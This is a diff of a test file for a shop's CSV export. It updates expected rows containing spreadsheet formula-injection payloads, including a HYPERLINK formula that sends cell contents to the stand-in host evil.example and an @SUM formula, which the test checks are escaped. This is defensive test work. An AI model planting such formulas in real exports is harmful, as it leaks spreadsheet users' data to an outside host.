@@ -205,9 +205,9 @@ describe("CSV export", () => {
 
     const text = await (await download(await linkFor(ALPHA, "?q=example.com"))).response!.text();
 
-    expect(text).toContain(`email:x@example.com,,"' \u0000=HYPERLINK(""http://evil.example/""&A1)",true,lost,Lost,`);
+    expect(text).toContain(`email:x@example.com,,,"' \u0000=HYPERLINK(""http://evil.example/""&A1)",true,lost,Lost,`);
     expect(text).toContain(",-12.50,USD,");
-    expect(text).toContain("email:y@example.com,,'\t@SUM(1+1),true,");
+    expect(text).toContain("email:y@example.com,,,'\t@SUM(1+1),true,");
   });
 
   it("GIVEN a large shop WHEN its CSV is downloaded THEN the event loop keeps turning between pages", async () => {
